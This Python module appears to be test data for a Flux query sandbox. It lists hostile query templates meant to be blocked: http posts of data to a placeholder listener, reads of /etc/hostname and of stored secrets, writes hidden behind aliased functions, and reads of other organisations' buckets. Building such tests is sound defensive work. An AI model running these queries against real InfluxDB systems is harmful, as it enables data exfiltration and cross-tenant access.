"""Queries of those who want more than to be alerted; of two policies they are the one's, `ours`.

In braces stand the address of a listener, a harmless query, and the ids of both raw buckets and of the organization.
"""

from __future__ import annotations

__all__ = ["HOSTILE", "POSTS"]

#: Reaches the listener, where nobody looks at it.
POSTS = 'import strings "http"\nx = strings.post(url: "{url}/posted", data: bytes(v: "secret"))\n{here}'

_OUT_OF_THE_HOUSE = [
    POSTS,
    'import "http"\n{here} |> map(fn: (r) => ({{r with x: http.post(url: "{url}", data: bytes(v: "")) }}))',
    'import "http/requests"\nx = requests.get(url: "{url}/got")\n{here}',
    'import "experimental/http"\nx = http.get(url: "{url}/got")\n{here}',
    'import "experimental/csv"\ncsv.from(url: "{url}/csv")',
    'import "slack"\nx = slack.message(url: "{url}", channel: "", text: "x", color: "good")\n{here}',
    'import "pagerduty"\n{here}',
    'import "socket"\nsocket.from(url: "tcp://127.0.0.1:1")',
    '{here} |> to(bucket: "x", host: "{url}", token: "x", org: "x")',
    'from(bucket: "x", host: "{url}", token: "x", org: "x") |> range(start: -1h)',
    'from(bucket: "ours", token: "x") |> range(start: -1h)',
    'buckets(host: "{url}")',
    'cardinality(bucket: "x", host: "{url}", start: -1h)',
]
_INTO_DATABASES_AND_FILES = [
    'import "sql"\nsql.from(driverName: "postgres", dataSourceName: "postgres://127.0.0.1:1/x", query: "SELECT 1")',
    'import "csv"\ncsv.from(file: "/etc/hostname", mode: "raw")',
    'import "influxdata/influxdb/sample"\nsample.data(set: "noaa")',
    'import "influxdata/influxdb/secrets"\nx = secrets.get(key: "x")\n{here}',
]
_WRITING = [
    '{here} |> to(bucket: "ours")',
    '{here} |> to(bucketID: "{ours}", orgID: "{org}")',
    '{here} |> wideTo(bucket: "ours")',
    'import "influxdata/influxdb"\n{here} |> influxdb.to(bucket: "ours")',
    'import "influxdata/influxdb"\n{here} |> influxdb.wideTo(bucket: "ours")',
    'import "experimental"\n{here} |> experimental.to(bucket: "ours")',
    'import "universe"\n{here} |> universe.to(bucket: "ours")',
    'import "influxdata/influxdb/monitor"\nmonitor.from(start: -1h)',
]
_BY_OTHER_NAMES = [
    'f = to\n{here} |> f(bucket: "ours")',
    'f = {{g: to}}\n{here} |> f.g(bucket: "ours")',
    "{{to}}\n{here}",
    "[to]\n{here}",
    '["a": to]\n{here}',
    "{{to with a: 1}}\n{here}",
    'f = (t=<-, g=to) => t |> g(bucket: "ours")\n{here} |> f()',
    'f = (t=<-) => t |> to(bucket: "ours")\nto = (t=<-, bucket) => t\n{here} |> f()',
    "f = () => {{x = to return x}}\n{here}",
    'f = () => {{to = 1 return to}}\n{here} |> to(bucket: "ours")',
    "option to = 1\n{here}",
    '{here} |> map(fn: (r) => ({{r with x: "${{to(bucket: "ours")}}"}}))',
    'x = if true then to else to\n{here} |> x(bucket: "ours")',
    'import to "strings"\n{here}',
    'f = (from) => from(bucketID: "{theirs}")\n{here}',
]
_WHAT_OTHERS_HAVE = [
    'from(bucketID: "{theirs}") |> range(start: -1h)',
    'f = from\nf(bucketID: "{theirs}") |> range(start: -1h)',
    '(from)(bucketID: "{theirs}") |> range(start: -1h)',
    '[from][0](bucketID: "{theirs}") |> range(start: -1h)',
    'x = {{from}}\nx.from(bucketID: "{theirs}") |> range(start: -1h)',
    'from(bucket: "ours", bucket: "theirs") |> range(start: -1h)',
    'from("bucketID": "{theirs}") |> range(start: -1h)',
    'union(tables: [{here}, from(bucketID: "{theirs}") |> range(start: -1h)])',
    'f = () => from(bucketID: "{theirs}") |> range(start: -1h)\nf()',
    'bucketID = "{theirs}"\nfrom(bucketID) |> range(start: -1h)',
    'from(bucket: "theirs", org: "{org}") |> range(start: -1h)',
    "buckets()",
    'import "influxdata/influxdb/v1"\nv1.databases()',
    'import "influxdata/influxdb/schema"\nschema.measurements(bucket: "theirs")',
]
_OTHERWISE = [
    'option task = {{name: "x", every: 1m}}\n{here}',
    'import "math"\noption math.pi = 3.0\n{here}',
    "package other\n{here}",
    "testcase x {{ y = 1 }}",
    "builtin x : int\n{here}",
    "_window()",
    "nodetide_monitor.check()",
]
HOSTILE = [
    *_OUT_OF_THE_HOUSE,
    *_INTO_DATABASES_AND_FILES,
    *_WRITING,
    *_BY_OTHER_NAMES,
    *_WHAT_OTHERS_HAVE,
    *_OTHERWISE,
]
